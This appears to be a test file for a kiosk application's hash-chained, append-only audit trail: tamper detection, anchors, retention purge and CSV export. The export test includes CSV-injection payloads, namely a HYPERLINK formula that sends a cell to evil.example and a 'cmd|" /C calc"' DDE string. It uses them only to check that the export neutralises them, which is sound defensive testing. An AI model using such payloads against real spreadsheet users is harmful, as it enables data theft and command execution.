import { parse as parseCsv } from 'csv-parse/sync';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { rmSync } from 'node:fs';
import { checkChain } from '../../electron/core/audit/audit-chain';
import { checkAnchors } from '../../electron/core/audit/audit-anchors';
import { createAuditTrail } from '../../electron/core/audit/audit-trail';
import { createLogger } from '../../electron/core/logger';
import { readOrCreateKioskId } from '../../electron/core/kiosk-identity';
import { DATABASE_FILE } from '../../electron/core/store/database';
import { openStore, type Store } from '../../electron/core/store/store';
import { runTsx } from '../support/run-child';
import { makeTempDir } from '../support/temp-dir';
import { engineDatabaseUrl, kioskEnvironment, psql, testDatabaseUrl, testEngine } from '../support/test-store';

/**
 * The audit trail on each engine: rows appended by several kiosks of a shop
 * form one chain; the database itself refuses to change a row or to delete
 * one out of turn; a row changed or removed behind the kiosk's back (the
 * guard dropped, as someone with the database owner's rights could) is found
 * by the verification, which names it; the retention purge keeps the chain
 * verifiable from the oldest row left. And `npm run audit -- verify | export`.
 */
const DAY = 24 * 60 * 60_000;
let temp: { dir: string; cleanup: () => void };
const stores: Store[] = [];
beforeEach(() => {
  temp = makeTempDir();
});
afterEach(async () => {
  for (const store of stores.splice(0)) await store.close();
  temp.cleanup();
});

async function kiosk(kioskId = readOrCreateKioskId(temp.dir).id, shop = 'main'): Promise<Store> {
  const store = await openStore({ dataDir: temp.dir, databaseUrl: engineDatabaseUrl(temp.dir), kioskId, shop });
  stores.push(store);
  return store;
}

/** SQL as the database's owner runs it, past the kiosk's code. */
function asOwner(statement: string): void {
  if (testEngine === 'postgres') {
    psql(statement, testDatabaseUrl(temp.dir));
    return;
  }
  const db = new Database(join(temp.dir, DATABASE_FILE));
  try {
    db.exec(statement);
  } finally {
    db.close();
  }
}

const verify = (store: Store) => checkChain((afterId) => store.audit.inOrder({}, afterId, 3));
const entry = (at: number, action: string, staffNumber: string | null = '1001') => ({ at, staffNumber, action, subject: null, outcome: 'ok', detail: '{}' });

describe('the audit trail', () => {
  it('rows appended at the same moment by two kiosks of a shop form one chain; another shop has its own', async () => {
    const a = await kiosk('kiosk-a');
    // The embedded file serves one kiosk (one connection); PostgreSQL, every kiosk of the shop.
    const b = testEngine === 'postgres' ? await kiosk('kiosk-b') : a;
    const other = await kiosk('kiosk-c', 'shibuya');
    const now = Date.now();
    await Promise.all(Array.from({ length: 20 }, (_, i) => (i % 2 === 0 ? a : b).audit.append(entry(now + i, `action-${i}`))));
    await other.audit.append(entry(now, 'elsewhere'));
    expect(await verify(a)).toEqual({ holds: true, rows: 20, lastAt: expect.any(Number) });
    expect(await verify(other)).toMatchObject({ holds: true, rows: 1 });
    const listed = await a.audit.list({}, { limit: 5 });
    expect(listed.map((row) => row.action)).toHaveLength(5);
    expect(listed[0]!.id).toBeGreaterThan(listed[4]!.id);
    expect((await a.audit.list({ staffNumber: '9999' }, { limit: 5 })).length).toBe(0);
  });

  it('the database refuses to change a row, or to delete one but the oldest past 30 days', async () => {
    const store = await kiosk();
    const now = Date.now();
    await store.audit.append(entry(now - 40 * DAY, 'old'));
    await store.audit.append(entry(now - 35 * DAY, 'older than the floor, not the oldest'));
    await store.audit.append(entry(now, 'today'));
    expect(() => asOwner("UPDATE audit_trail SET outcome = 'forged'")).toThrow(/append-only/);
    expect(() => asOwner("DELETE FROM audit_trail WHERE action = 'today'")).toThrow(/append-only/);
    expect(() => asOwner("DELETE FROM audit_trail WHERE action = 'older than the floor, not the oldest'")).toThrow(/append-only/);
    expect(await verify(store)).toMatchObject({ holds: true, rows: 3 });
    // The retention purge: from the front, and the chain still holds from the oldest row left.
    expect(await store.audit.purge(now - 30 * DAY)).toBe(2);
    expect(await verify(store)).toMatchObject({ holds: true, rows: 1 });
  });

  it('a row changed or removed behind the kiosk\'s back is found, and named', async () => {
    const store = await kiosk();
    const now = Date.now();
    const rows = [];
    for (let i = 0; i < 6; i += 1) rows.push(await store.audit.append(entry(now + i, `action-${i}`)));
    const dropGuard =
      testEngine === 'postgres' ? 'DROP TRIGGER audit_trail_guard ON audit_trail' : 'DROP TRIGGER audit_trail_no_update; DROP TRIGGER audit_trail_front_only';
    asOwner(dropGuard);
    asOwner(`UPDATE audit_trail SET staff_number = '2001' WHERE id = ${rows[3]!.id}`);
    expect(await verify(store)).toMatchObject({ holds: false, brokenAt: { id: rows[3]!.id }, why: expect.stringContaining('content') });
    asOwner(`UPDATE audit_trail SET staff_number = '1001' WHERE id = ${rows[3]!.id}`);
    expect(await verify(store)).toMatchObject({ holds: true });
    asOwner(`DELETE FROM audit_trail WHERE id = ${rows[2]!.id}`);
    expect(await verify(store)).toMatchObject({ holds: false, brokenAt: { id: rows[3]!.id }, why: expect.stringContaining('removed') });
  });
});

describe('npm run audit', () => {
  it('verify exits 0 while the chain holds and 1 naming the first broken row; export writes the range as CSV for Excel', async () => {
    const store = await kiosk();
    const day = Date.UTC(2026, 11, 4, 1, 0, 0); // 10:00 in Japan on 2026-12-04
    await store.audit.append({ at: day, staffNumber: '1001', action: 'temporary_password', subject: 'yamada.taro', outcome: 'issued', detail: '{"identityChecked":true}' });
    await store.audit.append(entry(day + DAY, 'staff_mode_opened'));
    const env = kioskEnvironment(temp.dir);
    const audit = (args: string[]) => runTsx(['electron/tools/audit-cli.ts', ...args], { env }).exited;

    expect(await audit(['verify'])).toMatchObject({ code: 0, out: expect.stringContaining('the audit trail holds: 2 row(s), verified up to 2026-12-05 10:00:00') });
    const exported = await audit(['export', '--from', '2026-12-04', '--to', '2026-12-04']);
    expect(exported.code).toBe(0);
    const lines = exported.out.split('\r\n');
    expect(lines[0]).toBe('\uFEFF日時,店舗,端末,スタッフ番号,操作,対象,結果,詳細,ハッシュ');
    expect(lines[1]).toMatch(/^2026-12-04 10:00:00,main,[^,]+,1001,temporary_password,yamada\.taro,issued,"{""identityChecked"":true}",[0-9a-f]{64}$/);
    expect(lines.filter((line) => line !== '')).toHaveLength(2);
    expect((await audit(['export', '--from', '2026-12-31', '--to', '2026-12-01'])).code).toBe(2);

    // What a customer typed reaches a cell: Excel must show it as text, never run it (OWASP's CSV injection rule).
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"詳細")';
    await store.audit.append({ at: day + 60_000, staffNumber: '1001', action: 'unlock_id', subject: formula, outcome: 'not_locked', detail: '{}' });
    await store.audit.append({ at: day + 120_000, staffNumber: '1001', action: 'unlock_id', subject: '@SUM(1+1)*cmd|" /C calc"!A0', outcome: '-2+3', detail: '{}' });
    const withFormulas = (await audit(['export', '--from', '2026-12-04', '--to', '2026-12-04'])).out.split('\r\n');
    const cells = (line: string) => parseCsv(line)[0] as string[];
    expect(cells(withFormulas[2]!)[5]).toBe(`'${formula}`);
    expect(cells(withFormulas[3]!).slice(5, 7)).toEqual(['\'@SUM(1+1)*cmd|" /C calc"!A0', "'-2+3"]);
    expect(withFormulas.slice(1).filter(Boolean).map(cells).flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);

    asOwner(testEngine === 'postgres' ? 'DROP TRIGGER audit_trail_guard ON audit_trail' : 'DROP TRIGGER audit_trail_no_update');
    asOwner("UPDATE audit_trail SET subject = 'hanako.suzuki@example.com' WHERE action = 'temporary_password'");
    const broken = await audit(['verify']);
    expect(broken.code).toBe(1);
    expect(broken.out).toMatch(/the audit trail is broken at row \d+ \(2026-12-04 10:00:00\): its content does not match its hash/);
  });

  it('purge removes the rows past the retention, oldest first, and the chain still holds', async () => {
    const store = await kiosk();
    const now = Date.now();
    await store.audit.append(entry(now - 500 * DAY, 'long ago'));
    await store.audit.append(entry(now - 450 * DAY, 'still too old'));
    await store.audit.append(entry(now - 10 * DAY, 'kept'));
    const env = kioskEnvironment(temp.dir);
    expect(await runTsx(['electron/tools/audit-cli.ts', 'purge'], { env }).exited).toMatchObject({ code: 0, out: expect.stringMatching(/^removed 2 audit row\(s\) older than 400 days; the trail now begins at row 3: --front 3:[0-9a-f]{64}\n$/) });
    expect((await store.audit.list({}, { limit: 10 })).map((row) => row.action)).toEqual(['kept']);
    expect(await verify(store)).toMatchObject({ holds: true, rows: 1 });
  });
});

describe('the audit trail against its anchors outside the store', () => {
  /** A kiosk's trail as the core writes it: each row's place and hash go to the kiosk's log (the journal's copy is the one its user cannot rewrite). */
  async function anchoredTrail(rows: number, at = (i: number) => Date.now() - (rows - i) * 60_000) {
    const store = await kiosk();
    const log = createLogger(temp.dir, { write: () => true });
    const trail = createAuditTrail({ repo: store.audit, now: () => 0, log, shop: 'main' });
    for (let i = 0; i < rows; i += 1) {
      await store.audit.append(entry(at(i), 'staff_mode_opened'));
    }
    // The last row through the trail (the core's path), which logs the head.
    await trail.record({ staffNumber: '1001', action: 'staff_mode_closed', outcome: 'idle' });
    await log.close();
    return { store, head: trail.lastAnchor()! };
  }
  const cli = (args: string[], env = kioskEnvironment(temp.dir)) => runTsx(['electron/tools/audit-cli.ts', ...args], { env }).exited;
  const dropGuards = () =>
    asOwner(testEngine === 'postgres' ? 'DROP TRIGGER audit_trail_guard ON audit_trail' : 'DROP TRIGGER audit_trail_front_only; DROP TRIGGER audit_trail_no_update');

  it('the newest rows deleted by whoever owns the store (its triggers dropped) are found, and named as a cut at the newest end', async () => {
    const { head } = await anchoredTrail(6);
    expect(head.count).toBe(7);
    expect(await cli(['verify'])).toMatchObject({ code: 0, out: expect.stringContaining('it reaches the anchored row 7') });
    dropGuards();
    asOwner(`DELETE FROM audit_trail WHERE id IN (SELECT id FROM audit_trail ORDER BY id DESC LIMIT 3)`);
    // The chain that is left holds on its own: only the anchor tells.
    const cut = await cli(['verify']);
    expect(cut.code).toBe(1);
    expect(cut.out).toContain('the audit trail was cut at its newest end: the newest 3 row(s) are missing: the anchor names row 7, the trail ends at row 4');
    // On a PC with no log of the kiosk's: the anchor from the printed day's report or the journal.
    rmSync(join(temp.dir, 'logs'), { recursive: true });
    expect(await cli(['verify'])).toMatchObject({ code: 0, out: expect.stringContaining('no anchor found') });
    expect(await cli(['verify', '--anchor', `${head.count}:${head.hash}`])).toMatchObject({ code: 1, out: expect.stringContaining('the newest 3 row(s) are missing') });
  });

  it('rows deleted from the front inside the retention period are found; the front a purge leaves is not a cut', async () => {
    const { store } = await anchoredTrail(5, (i) => Date.now() - (i < 2 ? 500 * DAY : (5 - i) * 60_000));
    // The retention purge takes the two rows past 400 days and records the front it leaves (the store and the log).
    expect(await cli(['purge'])).toMatchObject({ code: 0 });
    expect(await cli(['verify'])).toMatchObject({ code: 0 });
    dropGuards();
    asOwner(`DELETE FROM audit_trail WHERE id IN (SELECT id FROM audit_trail ORDER BY id LIMIT 2)`);
    const cut = await cli(['verify']);
    expect(cut.code).toBe(1);
    expect(cut.out).toContain('the audit trail was cut at its oldest end: the oldest 2 row(s) are missing: the trail begins at row 5, and the last purge left row 3 first');
    // The manager's 「操作履歴」 says the same (its check reads the same anchors).
    expect(await checkAnchors(store.audit, { front: await store.audit.recordedFront() })).toMatchObject({ holds: false, end: 'oldest', missing: 2 });
  });

  it('rows deleted from the front of a trail no purge has touched are found', async () => {
    await anchoredTrail(4);
    dropGuards();
    asOwner(`DELETE FROM audit_trail WHERE id IN (SELECT id FROM audit_trail ORDER BY id LIMIT 1)`);
    expect(await cli(['verify'])).toMatchObject({ code: 1, out: expect.stringContaining('cut at its oldest end: the oldest 1 row(s) are missing: the trail begins at row 2, and no purge has removed any') });
  });

  it('every row rewritten with fresh hashes from a cut point still fails against the anchor', async () => {
    const { store, head } = await anchoredTrail(3);
    dropGuards();
    asOwner(`DELETE FROM audit_trail WHERE id IN (SELECT id FROM audit_trail ORDER BY id DESC LIMIT 1)`);
    // The owner appends a row of their own at the anchored place, with a correct hash (the chain is unkeyed).
    await store.audit.append(entry(Date.now(), 'staff_mode_closed'));
    expect(await verify(store)).toMatchObject({ holds: true });
    expect(await cli(['verify', '--anchor', `${head.count}:${head.hash}`])).toMatchObject({ code: 1, out: expect.stringContaining(`row ${head.count} of the chain is not the one anchored`) });
  });
});
